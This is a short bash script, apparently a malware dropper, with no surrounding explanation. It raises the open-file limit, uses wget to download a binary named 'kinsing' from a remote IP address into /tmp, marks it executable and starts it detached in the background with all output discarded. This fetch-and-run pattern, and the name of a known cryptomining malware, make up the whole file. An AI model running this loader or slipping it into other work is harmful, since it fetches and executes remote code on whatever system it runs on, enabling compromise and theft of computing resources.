#!/bin/bash
ulimit -n 65535
LDR="wget -q -O -"
BIN_PATH=/tmp
$LDR http://203.0.113.17/kinsing > $BIN_PATH/kinsing
chmod +x $BIN_PATH/kinsing
nohup $BIN_PATH/kinsing >/dev/null 2>&1 &
